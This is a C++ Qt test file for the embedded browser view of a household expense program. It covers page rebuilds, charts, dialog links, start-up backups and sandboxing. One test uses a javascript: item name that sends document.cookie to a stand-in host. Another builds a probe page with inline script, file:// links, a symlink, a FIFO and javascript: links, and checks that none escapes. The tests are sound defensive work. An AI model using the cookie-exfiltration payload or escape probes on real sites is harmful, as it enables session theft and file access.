// The main view with its browser. These tests share one process, because the web engine
// takes a while to start; each waits for the pages it looks at.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <QApplication>
#include <QImage>
#include <QJsonArray>
#include <QJsonDocument>
#include <QLineEdit>
#include <QSemaphore>
#include <QSignalSpy>
#include <QStackedWidget>
#include <QTest>
#include <QThreadPool>
#include <QWebEnginePage>
#include <QWebEngineScript>
#include <filesystem>

#include "shell/chart_widget.h"
#include "shell/main_view.h"
#include "tests/shell/frame_fixture.h"

namespace kestrune {
namespace {

constexpr int kLoadTimeoutMs = 20000;

class WebViewTest : public testing::FrameTest {
 protected:
  // Waits until the browser shows a page holding `text` (any page when empty): pages are
  // built off the GUI thread and loaded in the background of the event loop.
  bool WaitForText(const std::string& text = "") {
    return QTest::qWaitFor(
        [&] {
          Settle();
          const std::string shown = frame->view()->pageShown() ? ShownText() : "";
          return !shown.empty() && shown.find(text) != std::string::npos;
        },
        kLoadTimeoutMs);
  }
  // Holds every thread of the pool the builds and the start's backup run on, until released.
  void HoldThreads() {
    QThreadPool& pool = *QThreadPool::globalInstance();
    for (int i = 0; i < pool.maxThreadCount(); ++i) pool.start([this] { held_.acquire(); });
  }
  void ReleaseThreads() { held_.release(QThreadPool::globalInstance()->maxThreadCount()); }
  // The text the browser shows, each run of blanks as one blank.
  std::string ShownText() {
    return Script("document.body.innerText").toString().simplified().toStdString();
  }
  // Runs a script of the test's own: pages themselves run none.
  QVariant Script(const QString& script) {
    std::optional<QVariant> value;
    frame->view()->browser().page()->runJavaScript(script, QWebEngineScript::ApplicationWorld,
                                                   [&](const QVariant& v) { value = v; });
    EXPECT_TRUE(QTest::qWaitFor([&] { return value.has_value(); }, kLoadTimeoutMs));
    return value.value_or(QVariant());
  }
  // Clicks the first link `a` of the page for which the script condition `match` holds.
  void Click(const QString& match) {
    Script("for (const a of document.querySelectorAll('a')) if (" + match +
           ") { a.click(); break; }");
  }
  void ClickLink(const std::string& text) {
    Click(QString("a.textContent.trim() === %1[0]")
              .arg(QJsonDocument(QJsonArray{QString::fromStdString(text)}).toJson()));
  }
  // Follows the first link whose target begins with `target` and answers the dialog it
  // opens with `handler` (if given); true once the command has run.
  bool Follow(const std::string& target, std::function<void(QDialog&)> handler = {}) {
    const size_t dialogs = prompts.dialogs.size();
    if (handler) prompts.dialog_handlers.push_back(std::move(handler));
    const size_t asked = prompts.asked.size();
    Click(QString("decodeURIComponent(a.getAttribute('href')).startsWith('%1')")
              .arg(QString::fromStdString(target)));
    return QTest::qWaitFor(
        [&] { return prompts.dialogs.size() > dialogs || prompts.asked.size() > asked; },
        kLoadTimeoutMs);
  }

  QSemaphore held_;
};

using namespace testing;  // the shell's fixtures

TEST_F(WebViewTest, PagesAndChartsTakeTurnsAndTheItemPagesLinksRunTheirCommands) {
  MainWindow& main = OpenHousehold("Bread");
  ASSERT_TRUE(WaitForText("All item expenses: 3.50 Purchase list"));

  // The item's person statistics: a chart in place of the page, with its toggle pair.
  Run("actionViewItemPersons");
  EXPECT_FALSE(main.view()->pageShown());
  ASSERT_NE(main.view()->chart(), nullptr);
  EXPECT_EQ(main.view()->shownPair(), TogglePair::kA);
  EXPECT_EQ(main.view()->chart()->title(), "Person's statictics");

  // Back to the list: the same browser shows the page file again.
  Run("actionViewItemList");
  ASSERT_TRUE(WaitForText("rye"));
  EXPECT_EQ(main.view()->chart(), nullptr);
  EXPECT_EQ(main.findChildren<QWebEngineView*>().size(), 1u);

  // The item page's links run their commands.
  ASSERT_TRUE(Follow("Edit purchase", [](QDialog& d) {
    EXPECT_EQ(d.windowTitle(), "Edit purchase");
    EXPECT_EQ(Field<QLineEdit>(d, "sum")->text(), "3.5");
    Type(d, "sum", "4");
    Press(d);
  }));
  EXPECT_TRUE(WaitForText("All item expenses: 4.00"));
  ASSERT_TRUE(Follow("Delete purchase2024|March|05"));  // answered Yes
  EXPECT_TRUE(WaitForText("All item expenses: 0.00"));
  ASSERT_TRUE(Follow("Delete expense item"));
  EXPECT_FALSE(main.db().ItemExists("Food", "Bread"));
  EXPECT_TRUE(WaitForText("All category expenses"));  // the category page again
  EXPECT_EQ(prompts.asked, (std::vector<std::string>{"Are you sure to delete this purchase?",
                                                     "Are you sure to delete this item?"}));
  // Ctrl+Z with the page in focus takes the deletion back and shows the item again.
  main.activateWindow();
  main.view()->browser().setFocus();
  ASSERT_NE(QApplication::focusWidget(), nullptr);
  QTest::keyClick(QApplication::focusWidget(), Qt::Key_Z, Qt::ControlModifier);
  EXPECT_TRUE(main.db().ItemExists("Food", "Bread"));
  EXPECT_TRUE(WaitForText("All item expenses: 0.00"));
}

// A build asked for while another runs replaces it: the older state never shows.
TEST_F(WebViewTest, AChangeMadeWhileTheViewIsBuiltShowsOnlyTheNewState) {
  MainWindow& main = OpenHousehold("Bread");
  ASSERT_TRUE(WaitForText("All item expenses: 3.50"));
  QSignalSpy switches(main.view()->findChild<QStackedWidget*>(), &QStackedWidget::currentChanged);
  HoldThreads();              // until both builds are asked for
  main.state().itemView = ItemView::Persons;  // the item's person statistics: a chart
  main.view()->regenerate();
  main.state().itemView = ItemView::List;
  ASSERT_TRUE(
      main.db().RecordPurchase("Food", "Bread", {"2024", "March", "06", "Bob", "", "1.25"}).ok());
  main.view()->regenerate();
  ReleaseThreads();
  EXPECT_TRUE(WaitForText("All item expenses: 4.75"));
  EXPECT_EQ(switches.size(), 0);
}

// The copy of the book every start makes runs beside the window; a change made meanwhile
// waits for it, so the copy holds the book as it was.
TEST_F(WebViewTest, TheStartsBackupHoldsTheBookAsItWasWhateverIsChangedMeanwhile) {
  PrepareHousehold();
  HoldThreads();
  frame = std::make_unique<MainWindow>(*store, prompts, work.path(), disk, clock);
  EXPECT_TRUE(frame->model().starting());
  EXPECT_TRUE(frame->db().AddPerson("Carl", "").ok());
  ReleaseThreads();
  Settle();
  const std::vector<std::string> backups = work.List("data/backups");
  ASSERT_EQ(backups.size(), 1u);
  const std::string persons = work.Read("data/backups/" + backups[0] + "/KSDBPersons.txt");
  EXPECT_TRUE(persons.find("Bob") != std::string::npos &&
              persons.find("Carl") == std::string::npos);
  EXPECT_NE(work.Read("data/BASE/KSDBPersons.txt").find("Carl"), std::string::npos);
}

// A chart is drawn and printed from what its build read: resizing never reads the book.
TEST_F(WebViewTest, AChartIsRedrawnAndPrintedWithoutReadingTheBookAgain) {
  MainWindow& main = OpenHousehold("Bread");
  Run("actionViewItemPersons");
  ASSERT_NE(main.view()->chart(), nullptr);
  disk.unreadable.insert(base() + "/items/Food Bread.txt");
  auto* chart = main.view()->findChild<ChartWidget*>();
  chart->resize(chart->width() / 2, chart->height() / 2);
  const QImage image = chart->grab().toImage();
  EXPECT_NE(image.pixel(image.width() / 2, image.height() / 2), image.pixel(0, image.height() - 1));
  ExpectPrints();
  Settle();
  EXPECT_TRUE(prompts.messages.empty());
  // The next build reads the file again and says it cannot.
  Run("actionViewItemStatistics");
  Settle();
  EXPECT_EQ(prompts.messages.size(), 1u);
}

TEST_F(WebViewTest, AMonthChangeRewritesThePageAndNameLinksSelectTheirNodes) {
  MainWindow& main = OpenHousehold();
  ASSERT_TRUE(WaitForText("All category expenses: 3.50"));  // 2024 March
  main.monthChooser()->setCurrentIndex(1);  // 2024 February: the page is written again
  ASSERT_TRUE(WaitForText("All category expenses: 0.00"));
  ClickLink("Milk");
  ASSERT_TRUE(WaitForText("Purchase list"));
  EXPECT_EQ(main.state().selectedItem, "Milk");
  EXPECT_EQ(main.treePane()->tree()->currentItem()->text(0), "Milk");

  // A category link on a person's page shows that person's item chart.
  ShowFolder(1);
  ASSERT_TRUE(main.treePane()->selectNodeByText("Bob"));
  ASSERT_TRUE(WaitForText("All person expenses"));
  ClickLink("Home");
  ASSERT_TRUE(QTest::qWaitFor([&] { return main.state().selectedPersonMenuChild == "Home"; },
                              kLoadTimeoutMs));
  EXPECT_EQ(main.state().selectedPerson, "Bob");  // under the person shown, not the first
  EXPECT_EQ(main.state().selectedPersonMenu, "Item's statistics");
  Settle();
  EXPECT_FALSE(main.view()->pageShown());
  EXPECT_EQ(main.view()->shownPair(), TogglePair::kC);
  EXPECT_TRUE(prompts.messages.empty());
}

TEST_F(WebViewTest, TheLinksOfCategoryAndPersonPagesRunTheirCommands) {
  MainWindow& main = OpenHousehold();
  ASSERT_TRUE(WaitForText("Item list"));
  ASSERT_TRUE(Follow("Add item", NamedAs("Cheese")));
  EXPECT_TRUE(main.db().ItemExists("Food", "Cheese"));
  main.treePane()->selectNodeByText("Food");
  ASSERT_TRUE(WaitForText("Cheese"));
  ASSERT_TRUE(Follow("Delete expense category"));
  EXPECT_EQ(main.state().selectedCategory, "Home");

  ShowFolder(1);
  main.treePane()->selectNodeByText("Anna");
  ASSERT_TRUE(WaitForText("All person expenses"));
  ASSERT_TRUE(Follow("Edit person", NamedAs("Ann")));
  EXPECT_EQ(prompts.dialogs.back(), "Edit person");
  EXPECT_EQ(main.folderBar()->entryText(1, 0), "Ann");
  EXPECT_TRUE(prompts.messages.empty());
}

TEST_F(WebViewTest, TheWelcomePageOpensTheDialogsOfItsStepsAndIsPrintedAsShown) {
  Open();
  ASSERT_TRUE(WaitForText("Welcome to Kestrune"));
  ASSERT_TRUE(Follow("Add person"));
  ASSERT_TRUE(Follow("Add expense category"));
  EXPECT_EQ(prompts.dialogs.size(), 2u);
  ExpectPrints();
}

// A name that reads as a URL of its own links like any other name: to its item.
TEST_F(WebViewTest, ALinkToANameWithAColonStaysInTheProgram) {
  const std::string hostile = "javascript:void(location='http:x.invalid?d='+document.cookie)";
  Prepare([&](ExpenseDatabase& db) {
    EXPECT_TRUE(db.AddCategory("Food", "").ok());
    EXPECT_TRUE(db.AddItemToCategory("Food", hostile, "").ok());
  });
  StoreSelection("Food", "NULL");
  MainWindow& main = Open();
  ASSERT_TRUE(WaitForText("Item list"));
  ClickLink(hostile);
  ASSERT_TRUE(WaitForText("Purchase list"));
  EXPECT_EQ(main.state().selectedItem, hostile);
}

// A page runs no script, shows no file but the regular files of the data folder (a FIFO
// there does not hang it), and no link leads off the program's own scheme.
TEST_F(WebViewTest, APageReachesNothingButTheRegularFilesOfTheDataFolder) {
  namespace fs = std::filesystem;
  OpenHousehold();
  ASSERT_TRUE(WaitForText());
  const std::string data = work.path() + "/data/";
  const std::string elsewhere = work.path() + "/elsewhere/";
  work.Write("elsewhere/secret.htm", "<p>secret</p>");
  QImage(1, 1, QImage::Format_RGB32).save(QString::fromStdString(data + "dot.png"));
  fs::copy_file(data + "dot.png", elsewhere + "dot.png");
  fs::create_symlink(elsewhere + "dot.png", data + "link.png");
  ASSERT_EQ(::mkfifo((data + "fifo.png").c_str(), 0600), 0);
  fs::create_directory(data + "folder.png");
  const QString probe_page = QString(R"html(<p id=s>no script</p>
      <script>document.getElementById('s').textContent = 'ran'</script>
      <img src=dot.png><img src="file://%1dot.png"><img src=link.png><img src=fifo.png>
      <img src=folder.png><a href="file://%1secret.htm">file</a> <a href="data:text/html,secret">
      data</a> <a href="http://127.0.0.1:9/">http</a> <a href=about:blank>about</a>
      <a href="javascript:document.write('secret')">javascript</a>)html");
  work.Write("data/probe.htm", probe_page.arg(QString::fromStdString(elsewhere)).toStdString());
  QWebEngineView* view = &frame->view()->browser();
  frame->view()->browser().navigate(data + "probe.htm");
  const std::string probe = "no script file data http about javascript";
  ASSERT_TRUE(WaitForText(probe));
  ASSERT_TRUE(QTest::qWaitFor(
      [&] { return Script("[...document.images].every(i => i.complete)").toBool(); },
      kLoadTimeoutMs));
  EXPECT_EQ(Script("[...document.images].map(i => i.naturalWidth).join()").toString(), "1,0,0,0,0");
  for (const char* link : {"file", "data", "http", "about", "javascript"}) {
    QSignalSpy finished(view, &QWebEngineView::loadFinished);
    ClickLink(link);
    finished.wait(1000);
    EXPECT_TRUE(WaitForText(probe)) << link;
    EXPECT_EQ(view->url().scheme(), "kestrune") << link;
  }
}

}  // namespace
}  // namespace kestrune
